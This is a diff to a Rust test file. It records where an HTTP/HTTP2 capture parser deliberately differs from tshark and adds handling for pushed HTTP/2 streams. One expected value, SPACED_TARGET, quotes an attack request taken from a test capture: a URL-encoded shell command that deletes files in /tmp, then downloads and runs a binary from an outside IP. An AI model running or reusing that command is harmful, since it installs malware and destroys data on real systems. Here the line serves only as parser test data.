@@ -20,7 +20,113 @@ use serde_json::{Value, json};
 /// Captures in which our result differs from tshark's on purpose: name
 /// (the end of its path), what is compared, and why we differ. The expected
 /// value in the last column is ours, so that it stays tested.
-const DIFFERENCES: &[Difference] = &[];
+const DIFFERENCES: &[Difference] = &[
+    Difference {
+        capture: "tests__alert-max__alert-max-append-higher-priority__input.pcap",
+        key: "requests 5.6.7.8:6666 1.2.3.4:63",
+        ours: r#"[["GET","/index.html","http/1.0","www.openinfosecfoundation.org"]]"#,
+        reason: "tshark knows HTTP by its port, and 63 is not one; the bytes are a request",
+    },
+    Difference {
+        capture: "tests__bug-5437-02__input.pcap",
+        key: "requests 41.108.52.138:54520 126.203.57.64:80",
+        ours: SPACED_TARGET,
+        reason: SPACED_TARGET_REASON,
+    },
+    Difference {
+        capture: "tests__bug-5437-02__input.pcap",
+        key: "requests 41.108.52.138:54520 40.110.35.23:80",
+        ours: SPACED_TARGET,
+        reason: SPACED_TARGET_REASON,
+    },
+    Difference {
+        capture: "tests__http2-keywords2__input.pcap",
+        key: "requests 10.9.0.2:58038 139.162.123.134:80",
+        ours: "null",
+        reason: UPGRADED_REASON,
+    },
+    Difference {
+        capture: "tests__http2-keywords2__input.pcap",
+        key: "responses 10.9.0.2:58038 139.162.123.134:80",
+        ours: "null",
+        reason: UPGRADED_REASON,
+    },
+    Difference {
+        capture: "tests__http2-keywords2__input.pcap",
+        key: "stream 1 10.9.0.2:58038 139.162.123.134:80",
+        ours: r#"[["GET","nghttp2.org","/robots.txt",200,null]]"#,
+        reason: UPGRADED_REASON,
+    },
+    Difference {
+        capture: "tests__pcap__http2-nghttp2.pcap",
+        key: "stream 13 10.89.85.15:49570 139.162.123.134:80",
+        ours: r#"[["GET","nghttp2.org","/",200,null]]"#,
+        reason: "tshark lists only the answer; the request is in the capture",
+    },
+    Difference {
+        capture: "test__afl_data__multi_packet_http_request.pcap",
+        key: "requests 192.168.10.5:54842 172.82.206.1:80",
+        ours: ANY,
+        reason: CUT_HEAD_REASON,
+    },
+    Difference {
+        capture: "test__afl_data__multi_packet_http_request_ua.pcap",
+        key: "requests 192.168.10.14:53478 68.67.178.138:80",
+        ours: ANY,
+        reason: CUT_HEAD_REASON,
+    },
+    Difference {
+        capture: "http__istio-tcp-frag.pcap",
+        key: "responses 127.0.0.6:36493 10.233.64.230:9080",
+        ours: "[200]",
+        reason: CUT_HEAD_REASON,
+    },
+    Difference {
+        capture: "http__grpc-segmented.pcap",
+        key: "stream 1 10.0.226.225:41242 10.1.192.207:20035",
+        ours: r#"[["POST","192.168.199.215:30035","/agent.Synchronizer/Push",null,null]]"#,
+        reason: "tshark does not know HTTP/2 on this port without the preface",
+    },
+    Difference {
+        capture: "mixed-vlan-mpls.pcap",
+        key: "requests 10.20.80.1:50343 10.0.0.15:80",
+        ours: "null",
+        reason: "the request is `GET /` without a version, HTTP/0.9, which is not decoded; its \
+                 answer has no head, and neither tshark nor we list one",
+    },
+    Difference {
+        capture: "zeek-image-post-1080-8000-x.pcap",
+        key: "requests 127.0.0.1:1080 44.1.1.1:8000",
+        ours: r#"[["POST","/","http/1.1","localhost:8000"]]"#,
+        reason: SOCKS_PORT_REASON,
+    },
+    Difference {
+        capture: "zeek-image-post-1080-8000-x.pcap",
+        key: "responses 127.0.0.1:1080 44.1.1.1:8000",
+        ours: "[200]",
+        reason: SOCKS_PORT_REASON,
+    },
+    Difference {
+        capture: "websocket__oversized-close-frame.pcapng",
+        key: "websocket 8 10.0.0.1:40081 10.0.0.2:80",
+        ours: "null",
+        reason: "a control frame of over 125 bytes is none (RFC 6455 section 5.5): it is \
+                 reported as the anomaly bad-websocket-frame, not counted as a frame",
+    },
+];
+
+/// Stands for any result of ours: too long to be repeated here.
+const ANY: &str = "\"*\"";
+
+const SPACED_TARGET: &str = r#"[["GET","/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm","http/1.1","127.0.0.1:80"]]"#;
+const SPACED_TARGET_REASON: &str = "the target holds a space: what follows the last one is the \
+     version, as servers read it, and tshark takes a part of the target for the version";
+const UPGRADED_REASON: &str = "the request that asked for h2c is stream 1 (RFC 7540 section 3.2), \
+     and so one transaction here; tshark shows it as HTTP/1 with its 101 and again as a stream \
+     without a request";
+const CUT_HEAD_REASON: &str = "the capture ends inside the head, whose first line is there: we \
+     show what was seen, labelled as truncated";
+const SOCKS_PORT_REASON: &str = "tshark takes port 1080 for SOCKS; the bytes are HTTP";
 
 struct Difference {
     /// End of the capture's path.
@@ -97,10 +203,19 @@ fn expected(of: &Value) -> Findings {
             }
         }
     }
-    for stream in list(&of["http2"]) {
+    let streams = list(&of["http2"]);
+    for stream in streams.iter().filter(|stream| !stream["client"].is_null()) {
+        // Pushed streams have client and server the other way round there.
+        let (client, server) = match stream["pushed"] == true {
+            true => (&stream["server"], &stream["client"]),
+            false => (&stream["client"], &stream["server"]),
+        };
+        let ends = ends(&json!({ "client": client, "server": server }));
+        addresses.insert(stream["tcp_stream"].to_string(), ends);
+    }
+    for stream in streams {
         let known = addresses.get(&stream["tcp_stream"].to_string()).cloned();
-        let ends =
-            if stream["client"].is_null() { known.unwrap_or_default() } else { ends(&stream) };
+        let ends = known.unwrap_or_else(|| ends(&stream));
         let key = format!("stream {} {ends}", stream["stream_id"]);
         let status = list(&stream["status"]).last().cloned().unwrap_or(Value::Null);
         let grpc_status = match &stream["grpc_status"] {
@@ -216,7 +331,7 @@ fn problems(capture: &Path, of: &Value, used: &mut Vec<usize>) -> String {
         if let Some(index) = known {
             used.push(index);
             let meant: Value = serde_json::from_str(DIFFERENCES[index].ours).expect("JSON");
-            if meant == json!(ours) {
+            if meant == json!(ours) || (DIFFERENCES[index].ours == ANY && ours.is_some()) {
                 continue;
             }
             problems.push_str(&format!(
